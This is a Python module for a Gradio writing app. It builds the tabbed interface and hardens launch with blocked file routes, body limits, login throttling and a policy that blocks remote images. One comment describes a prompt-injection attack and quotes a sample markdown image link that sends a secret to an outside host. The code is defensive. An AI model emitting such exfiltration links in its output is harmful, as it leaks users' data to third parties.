"""The Blocks app: the tabs (writing/ui/tabs/) around one shared engine, and `launch()`.

Tabs get a UIContext (writing/ui/context.py) and nothing global. Each tab module has
`build_<name>_tab(ctx)`; add a tab with one import line and one call line in `build_app`. This is
the only module that imports the tabs; no tab imports another (tests/test_layers.py).
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import gradio as gr

from writing.library.paths import resolve_data_dir
from writing.ui.bodylimit import with_body_limit
from writing.ui.context import UIContext
from writing.ui.guard import sanitize_everything
from writing.ui.i18n import I18N, t
from writing.ui.openers import Openers
from writing.ui.streaming import status_line
from writing.ui.tabs.blog import build_blog_tab
from writing.ui.tabs.chat import build_chat_tab
from writing.ui.tabs.code import build_code_tab
from writing.ui.tabs.library import build_library_tab
from writing.ui.tabs.longform import build_longform_tab
from writing.ui.tabs.presets import build_presets_tab
from writing.ui.theme import CSS, HEAD, TOGGLE_JS, make_theme

DEFAULT_QUEUE_SIZE = 16  # waiting runs beyond this get gradio's "queue is full" error: try again shortly
STATUS_REFRESH_S = 2.0
DOWNLOAD_CACHE_S = 3600


def build_app(ctx: UIContext, *, queue_size: int = DEFAULT_QUEUE_SIZE) -> gr.Blocks:
    # delete_cache: gradio's copies of downloads and exports (its cache) are deleted after an hour, like ours.
    with gr.Blocks(title="Writing Studio", delete_cache=(DOWNLOAD_CACHE_S, DOWNLOAD_CACHE_S)) as app:
        with gr.Row(elem_id="studio-header"):
            gr.Markdown("# ✍️ Writing Studio\n" + t("tagline"), elem_id="studio-title")
            toggle = gr.Button(t("theme_toggle"), size="sm", variant="secondary", elem_id="theme-toggle",
                               scale=0, min_width=150)
        if ctx.banner:
            gr.Markdown(ctx.banner, elem_id="studio-banner")
        ctx.openers = Openers()  # this app's; the Library (built last) reads what the other tabs registered
        with gr.Tabs(elem_id="studio-tabs") as ctx.tabs:
            build_blog_tab(ctx)
            build_code_tab(ctx)
            build_chat_tab(ctx)
            build_presets_tab(ctx)
            build_longform_tab(ctx)
            build_library_tab(ctx)
        status = gr.Markdown(status_line(ctx), elem_id="studio-status")
        timer = gr.Timer(STATUS_REFRESH_S)

        toggle.click(None, js=TOGGLE_JS)
        timer.tick(lambda: status_line(ctx), None, status, queue=False, show_progress="hidden",
                   api_visibility="private")
    sanitize_everything(app)
    # A local model runs one request at a time; a remote server (RemoteEngine.max_concurrency) batches many.
    app.queue(default_concurrency_limit=getattr(ctx.engine, "max_concurrency", 1), max_size=queue_size)
    return app


# Model output is untrusted: a prompt-injected ![](https://x/?q=SECRET) would send text to another server the
# moment it renders. This Content-Security-Policy lets the page load images and media from the studio itself
# (and data:/blob: URLs) only; every other image is blocked by the browser, whatever component renders it.
NO_REMOTE_IMAGES = ('<meta http-equiv="Content-Security-Policy" '
                    'content="img-src \'self\' data: blob:; media-src \'self\' data: blob:">')


def launch(app: gr.Blocks, *, host: str = "127.0.0.1", port: int | None = None, prevent_thread_lock: bool = False,
           quiet: bool = False, remote_images: bool = False, **options: Any) -> Any:
    """Serve the studio. Theme, CSS, head script and translations belong to launch() in gradio 6.

    The app's own folder and the data folder (drafts DB, user presets) are blocked from gradio's file
    routes explicitly, whatever else is allowed: /gradio_api/file=studio.py or =/data/drafts.db is a 403.
    Request bodies over REQUEST_MAX_BYTES are answered 413 unread (writing/ui/bodylimit.py).
    With `auth`, failed logins are throttled (writing/ui/login.py; `login_throttle=` overrides the limits).
    Remote images in rendered output are blocked (NO_REMOTE_IMAGES) unless `remote_images` (--allow-remote-images).
    """
    options["blocked_paths"] = [*blocked_paths(), *(options.get("blocked_paths") or [])]
    options = with_body_limit(options)  # a huge body is refused before gradio reads or parses it
    from writing.ui.login import throttle_login  # failed logins throttled per user and address (#13)

    options = throttle_login(options, options.pop("login_throttle", None))
    return app.launch(
        server_name=host,
        server_port=port,
        theme=make_theme(),
        css=CSS,
        head=HEAD if remote_images else NO_REMOTE_IMAGES + HEAD,
        i18n=I18N,
        prevent_thread_lock=prevent_thread_lock,
        quiet=quiet,
        show_error=True,
        **options,
    )


def blocked_paths() -> list[str]:
    """Absolute folders gradio must never serve: this project (code, checkpoints) and the data folder."""
    return [str(Path(__file__).resolve().parents[2]), str(resolve_data_dir().resolve())]
